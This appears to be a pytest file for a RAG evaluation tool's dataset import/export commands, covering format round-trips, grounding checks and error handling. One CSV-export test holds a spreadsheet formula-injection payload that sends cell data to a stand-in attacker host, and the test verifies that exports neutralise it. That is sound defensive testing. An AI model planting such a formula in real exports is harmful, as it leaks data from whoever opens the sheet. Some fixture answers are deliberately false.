"""`rag-eval dataset import|export` on the command line (in process, support/cli.py): a peer's file published as a
new golden-set version through the expectations suite, ours taken out and brought back, an imported version
audited, and every bad input refused in one line (exit 2) with nothing written."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys

import pytest
from dagster import AssetKey

from rag_eval_pipeline.stores.local import Warehouse
from rag_eval_pipeline.synthesis.versions import content_hash, read_manifest
from rag_eval_pipeline_tests.review_fixtures import CHUNKS, ITEMS, golden_frame, lay_out_version
from rag_eval_pipeline_tests.support.cli import rag_eval

pytestmark = [pytest.mark.cli, pytest.mark.dagster]

LOGS_TEXT, BACKUPS_TEXT, HOTEL_TEXT = CHUNKS["retention.md#0"], CHUNKS["retention.md#1"], CHUNKS["travel.md#0"]
CONTENT = ["qa_id", "question", "ground_truth", "gold_chunk_ids", "gold_contexts", "question_type"]
# A RAGAS testset as its TestsetGenerator writes one, by hand: the last item's reference is not in its context.
TESTSET = [
    {
        "user_input": "How long are API request logs retained?",
        "reference_contexts": [LOGS_TEXT],
        "reference": "They are retained for 90 days, then deleted.",
        "synthesizer_name": "single_hop_specific_query_synthesizer",
    },
    {
        "user_input": "How long are database backups kept?",
        "reference_contexts": [BACKUPS_TEXT],
        "reference": "Database backups are kept for 35 days.",
        "synthesizer_name": "single_hop_specific_query_synthesizer",
    },
    {
        "user_input": "What is the hotel cap in Zürich?",
        "reference_contexts": [HOTEL_TEXT],
        "reference": "The hotel cap is EUR 230 per night.",
        "synthesizer_name": "single_hop_specific_query_synthesizer",
        "persona_name": "New employee",
    },
    {
        "user_input": "What is the per-diem for meals in Tokyo?",
        "reference_contexts": [HOTEL_TEXT],
        "reference": "The documents give no information about meals in Tokyo.",  # declines: unanswerable
        "synthesizer_name": "single_hop_specific_query_synthesizer",
    },
    {
        "user_input": "How long are request logs kept before deletion?",
        "reference_contexts": [LOGS_TEXT],
        "reference": "Request logs are kept for 12 years.",
        "synthesizer_name": "single_hop_specific_query_synthesizer",
    },
]


@pytest.fixture
def env(tmp_path) -> dict:
    """A local warehouse where acme/v1 is published (review_fixtures), a Dagster home, both temporary."""
    lay_out_version(Warehouse(tmp_path / "warehouse"), "acme", "v1", golden_frame(ITEMS))
    environment = {
        **os.environ,
        "DAGSTER_HOME": str(tmp_path / "home"),
        "RAG_EVAL_WAREHOUSE": str(tmp_path / "warehouse"),
        "RAG_EVAL_DOCUMENTS_ROOT": str(tmp_path / "documents"),
    }
    for variable in ("RAG_EVAL_DATABASE_URL", "RAG_EVAL_SERVER", "RAG_EVAL_JUDGE", "RAG_EVAL_JUDGE_BASE_URL"):
        environment.pop(variable, None)  # the local warehouse, the offline judge
    return environment


def _warehouse(env) -> Warehouse:
    return Warehouse(env["RAG_EVAL_WAREHOUSE"])


def _instance(env):
    from rag_eval_pipeline.instance import local_instance

    with pytest.MonkeyPatch.context() as environment:
        environment.setenv("DAGSTER_HOME", env["DAGSTER_HOME"])
        return local_instance()


def _content(golden):
    return [
        {c: (v if isinstance(v, str) else list(v)) for c, v in row.items()}
        for row in golden[CONTENT].to_dict("records")
    ]


def _one_line_error(completed) -> str:
    assert completed.returncode == 2, completed.stdout + completed.stderr
    lines = completed.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: "), completed.stderr
    return lines[0]


def _testset(tmp_path, records=TESTSET):
    path = tmp_path / "testset.jsonl"
    path.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in records), encoding="utf-8")
    return path


@pytest.mark.parametrize(
    "format_name, name", [("ragas", "set.jsonl"), ("ragas-testset", "set.csv"), ("deepeval", "set.json")]
)
def test_export_then_import_publishes_the_same_golden_set(env, tmp_path, format_name, name):
    out = tmp_path / name
    exported = rag_eval(
        env, "dataset", "export", "--tenant", "acme", "--version", "v1", "--format", format_name, "--out", str(out)
    )
    assert exported.returncode == 0, exported.stderr
    assert f"4 items of the golden set of acme/v1 written to {out} ({format_name})" in exported.stdout

    imported = rag_eval(env, "dataset", "import", "--tenant", "acme", "--file", str(out), "--new-version", "v2")

    assert imported.returncode == 0, imported.stderr
    assert f"({format_name}, 4 rows) -> acme/v2: 4 items kept, 0 rejected" in imported.stdout
    warehouse = _warehouse(env)
    v1, v2 = warehouse.read("acme", "v1", "golden_set"), warehouse.read("acme", "v2", "golden_set")
    assert _content(v2) == _content(v1)
    manifest = read_manifest(warehouse, "acme", "v2")
    assert (manifest.source, manifest.n_items, manifest.content_hash) == (
        f"import of {name} ({format_name})",
        4,
        content_hash(v2),
    )
    chunks = warehouse.read("acme", "v2", "document_chunks")
    assert dict(zip(chunks["chunk_id"], chunks["text"])) == {c: CHUNKS[c] for i in ITEMS for c in i.gold_chunk_ids}
    instance = _instance(env)
    assert instance.has_dynamic_partition("dataset_version", "v2")
    for table in ("golden_set", "rejected_qa", "document_chunks", "synthesis_plan"):
        assert len(instance.get_materialized_partitions(AssetKey(table))) == 1, table


def test_a_peer_testset_is_verified_published_and_audited(env, tmp_path):
    """The slow one: a hand-written RAGAS testset in, an audit of it, the audit's rows out to DeepEval and RAGAS,
    and `rag-eval evaluate` on the DeepEval file."""
    imported = rag_eval(
        env, "dataset", "import", "--tenant", "acme", "--file", str(_testset(tmp_path)), "--new-version", "v2"
    )

    assert imported.returncode == 0, imported.stderr
    assert "(ragas-testset, 5 rows) -> acme/v2: 4 items kept, 1 rejected (grounding 1)" in imported.stdout
    assert "  line 5: ground truth not supported by its gold chunks" in imported.stdout
    warehouse = _warehouse(env)
    golden = warehouse.read("acme", "v2", "golden_set")
    assert golden["question_type"].tolist() == ["simple", "simple", "simple", "unanswerable"]
    assert warehouse.read("acme", "v2", "rejected_qa")["stage"].tolist() == ["grounding"]
    assert read_manifest(warehouse, "acme", "v2").source == "import of testset.jsonl (ragas-testset)"

    audit = rag_eval(env, "run", "--tenant", "acme", "--version", "v2", "--job", "audit", "--commit", "c1")
    assert audit.returncode == 0, audit.stderr
    run_id = re.search(r"run (\S+) \(audit\) finished", audit.stdout).group(1)

    cases_path, samples_path = tmp_path / "cases.json", tmp_path / "samples.csv"
    for format_name, out in (("deepeval", cases_path), ("ragas", samples_path)):
        exported = rag_eval(
            env,
            "dataset",
            "export",
            "--tenant",
            "acme",
            "--version",
            "v2",
            "--audit",
            run_id,
            "--format",
            format_name,
            "--out",
            str(out),
        )
        assert exported.returncode == 0, exported.stderr
        assert f"4 answered items of audit {run_id} (acme/v2) written to {out}" in exported.stdout
    cases = json.loads(cases_path.read_text(encoding="utf-8"))
    outputs = warehouse.read_audit_table("acme", "v2", run_id, "candidate_outputs").set_index("qa_id")
    chunk_ids = set(warehouse.read("acme", "v2", "document_chunks")["chunk_id"])
    for case in cases:
        output = outputs.loc[case["additional_metadata"]["qa_id"]]
        assert case["actual_output"] == output["answer"]
        assert case["retrieval_context"] == [c["text"] for c in output["contexts"]]
        assert set(case["additional_metadata"]["retrieved_context_ids"]) <= chunk_ids
    assert sorted(c["input"] for c in cases) == sorted(golden["question"])

    scores = tmp_path / "scores.jsonl"
    evaluated = rag_eval(
        env, "evaluate", "--input", str(cases_path), "--out", str(scores), "--metrics", "hit_rate,faithfulness"
    )
    assert evaluated.returncode == 0, evaluated.stderr
    assert "4 rows scored, 0 invalid" in evaluated.stdout
    rows = [json.loads(line) for line in scores.read_text(encoding="utf-8").splitlines()]
    assert {row["id"] for row in rows} == set(golden["qa_id"])  # the ids came back from the metadata


def test_no_verify_publishes_as_given_and_the_manifest_says_so(env, tmp_path):
    completed = rag_eval(
        env,
        "dataset",
        "import",
        "--tenant",
        "acme",
        "--file",
        str(_testset(tmp_path)),
        "--new-version",
        "v2",
        "--no-verify",
    )

    assert completed.returncode == 0, completed.stderr
    assert "5 items kept, 0 rejected" in completed.stdout and "(--no-verify)" in completed.stdout
    manifest = read_manifest(_warehouse(env), "acme", "v2")
    assert manifest.source == "import of testset.jsonl (ragas-testset), not verified (--no-verify)"


def test_a_set_that_fails_the_expectations_suite_is_not_published(env, tmp_path):
    """Three multi-hop items whose references are not in their contexts: the type disappears, as it may not."""
    records = TESTSET[:3] + [
        {
            "user_input": f"What do the policies say about topic {n}?",
            "reference_contexts": [LOGS_TEXT, BACKUPS_TEXT],
            "reference": f"They describe {n} unrelated things in Mars orbit.",
            "synthesizer_name": "multi_hop_abstract_query_synthesizer",
        }
        for n in ("one", "two", "three")
    ]

    line = _one_line_error(
        rag_eval(
            env,
            "dataset",
            "import",
            "--tenant",
            "acme",
            "--file",
            str(_testset(tmp_path, records)),
            "--new-version",
            "v2",
        )
    )

    assert "fails the expectations suite the synthesis runs" in line and "multi_context" in line
    _assert_nothing_written(env, "v2")


def test_samples_without_references_are_refused_not_published_as_unanswerable(env, tmp_path):
    """A RAGAS EvaluationDataset of user_input, retrieved_contexts and response: nothing to verify, and nothing
    says the documents do not answer its questions."""
    samples = [
        {
            "user_input": question,
            "retrieved_contexts": [HOTEL_TEXT],
            "response": "EUR 230 per night.",
        }
        for question in ("What is the hotel cap in Zürich?", "What is the hotel cap in London?")
    ]

    line = _one_line_error(
        rag_eval(
            env,
            "dataset",
            "import",
            "--tenant",
            "acme",
            "--file",
            str(_testset(tmp_path, samples)),
            "--new-version",
            "v2",
        )
    )

    assert (
        "can be published (2 rejected, the first: line 1: form: no reference answer to verify: give the reference"
        in line
    )
    _assert_nothing_written(env, "v2")


def test_a_csv_export_marks_formula_cells_says_how_many_and_imports_back_exactly(env, tmp_path):
    golden = golden_frame(ITEMS)
    golden.loc[0, "question"] = '=HYPERLINK("http://attacker.example/?d="&A1, "How long are request logs kept?")'
    golden.loc[1, "ground_truth"] = "+35 days, in a separate region."
    lay_out_version(_warehouse(env), "acme", "v5", golden)
    out = tmp_path / "set.csv"

    exported = rag_eval(
        env, "dataset", "export", "--tenant", "acme", "--version", "v5", "--format", "ragas", "--out", str(out)
    )

    assert exported.returncode == 0, exported.stderr
    assert "2 cells that a spreadsheet would run as a formula are written after a ' (its text mark)" in exported.stdout
    assert "'=HYPERLINK(" in out.read_text(encoding="utf-8")
    imported = rag_eval(env, "dataset", "import", "--tenant", "acme", "--file", str(out), "--new-version", "v6")
    assert imported.returncode == 0, imported.stderr
    assert _content(_warehouse(env).read("acme", "v6", "golden_set")) == _content(golden)
    jsonl = tmp_path / "set.jsonl"
    exported = rag_eval(
        env, "dataset", "export", "--tenant", "acme", "--version", "v5", "--format", "ragas", "--out", str(jsonl)
    )
    assert exported.returncode == 0 and "text mark" not in exported.stdout
    assert json.loads(jsonl.read_text(encoding="utf-8").splitlines()[0])["user_input"] == golden.loc[0, "question"]


def _assert_nothing_written(env, version: str) -> None:
    assert not _warehouse(env).partition_dir("acme", version).exists()
    instance = _instance(env)
    assert not instance.has_dynamic_partition("dataset_version", version)
    assert instance.get_materialized_partitions(AssetKey("golden_set")) == set()


BAD_FILES = [
    ("object.json", '{"input": "What is the hotel cap?"}', "is neither a RAGAS dataset"),
    ("sheet.csv", "question,answer\nWhat is the hotel cap?,EUR 230\n", "is neither a RAGAS dataset"),
    ("other.jsonl", '{"question": "What is the hotel cap?"}\n', "is neither a RAGAS dataset"),
    ("broken.jsonl", '{"user_input": "What is the hotel cap?"}\n{oops\n', "line 2: not valid JSON"),
    (
        "lists.csv",
        "user_input,reference_contexts\nWhat is the hotel cap?,a context\n",
        "row 1: reference_contexts is not a list",
    ),
]


@pytest.mark.parametrize("name, content, message", BAD_FILES)
def test_a_foreign_or_malformed_file_is_one_line_and_writes_nothing(env, tmp_path, name, content, message):
    path = tmp_path / name
    path.write_text(content, encoding="utf-8")

    line = _one_line_error(
        rag_eval(env, "dataset", "import", "--tenant", "acme", "--file", str(path), "--new-version", "v2")
    )

    assert message in line
    _assert_nothing_written(env, "v2")


@pytest.mark.parametrize(
    "args, message",
    [
        (("--format", "langsmith"), "Invalid value for '--format'"),
        (("--format", "deepeval"), "is not DeepEval goldens"),
        (("--new-version", "v1"), "acme/v1 already has a published golden set"),
        (("--new-version", "V2"), "invalid dataset version name 'V2'"),
    ],
)
def test_bad_import_arguments_are_one_line(env, tmp_path, args, message):
    path = _testset(tmp_path)
    arguments = {"--new-version": "v2", **dict(zip(args[::2], args[1::2]))}
    flat = [part for option, value in arguments.items() for part in (option, value)]

    line = _one_line_error(rag_eval(env, "dataset", "import", "--tenant", "acme", "--file", str(path), *flat))

    assert message in line
    _assert_nothing_written(env, "v2")
    assert read_manifest(_warehouse(env), "acme", "v1").source == "synthesis"  # the taken version untouched


def test_import_in_production_mode_says_it_is_not_supported(env, tmp_path):
    production = {**env, "RAG_EVAL_DATABASE_URL": "postgresql://rag_eval_app@127.0.0.1:1/db"}
    line = _one_line_error(
        rag_eval(
            production,
            "dataset",
            "import",
            "--tenant",
            "acme",
            "--file",
            str(_testset(tmp_path)),
            "--new-version",
            "v2",
        )
    )
    assert (
        "rag-eval dataset import writes a new version beside the local warehouse" in line
        and "not supported yet" in line
    )


@pytest.mark.parametrize(
    "args, message",
    [
        (("--format", "ragas", "--out", "x.json"), "a ragas file is .jsonl or .csv, not x.json"),
        (("--format", "deepeval", "--out", "x.jsonl"), "a deepeval file is .json, not x.jsonl"),
        (("--format", "ragas-testset", "--out", "x.csv", "--audit", "abc"), "a RAGAS testset holds no answers"),
        (
            ("--format", "ragas", "--out", "x.csv", "--audit", "0123abcd-0000-0000-0000-000000000000"),
            "has no audit of run id",
        ),
        (("--format", "ragas", "--out", "x.csv", "--version", "v7"), "no 'golden_set' table"),
    ],
)
def test_bad_export_arguments_are_one_line(env, tmp_path, monkeypatch, args, message):
    monkeypatch.chdir(tmp_path)
    arguments = {"--version": "v1", **dict(zip(args[::2], args[1::2]))}
    flat = [part for option, value in arguments.items() for part in (option, value)]

    line = _one_line_error(rag_eval(env, "dataset", "export", "--tenant", "acme", *flat))

    assert message in line
    assert list(tmp_path.glob("x.*")) == []


def test_an_unpublished_version_is_not_exported(env, tmp_path):
    lay_out_version(_warehouse(env), "acme", "v3", golden_frame(ITEMS), published=False)
    line = _one_line_error(
        rag_eval(
            env,
            "dataset",
            "export",
            "--tenant",
            "acme",
            "--version",
            "v3",
            "--format",
            "ragas",
            "--out",
            str(tmp_path / "x.jsonl"),
        )
    )
    assert "is not published" in line and not (tmp_path / "x.jsonl").exists()


def test_the_help_of_the_dataset_commands_imports_nothing_heavy():
    """As test_cli_startup checks for the other commands: `rag-eval dataset ... --help` stays fast."""
    probe = (
        "import json, sys\n"
        "from rag_eval_pipeline import cli\n"
        "codes = [cli.main(['dataset', command, '--help']) for command in ('import', 'export')]\n"
        "heavy = ('dagster', 'pandas', 'torch', 'great_expectations')\n"
        "print(json.dumps([codes, sorted(m for m in heavy if m in sys.modules)]))\n"
    )
    completed = subprocess.run([sys.executable, "-c", probe], capture_output=True, text=True, timeout=120)
    assert completed.returncode == 0, completed.stderr
    assert json.loads(completed.stdout.strip().splitlines()[-1]) == [[0, 0], []]
    assert "--no-verify" in completed.stdout and "--audit" in completed.stdout
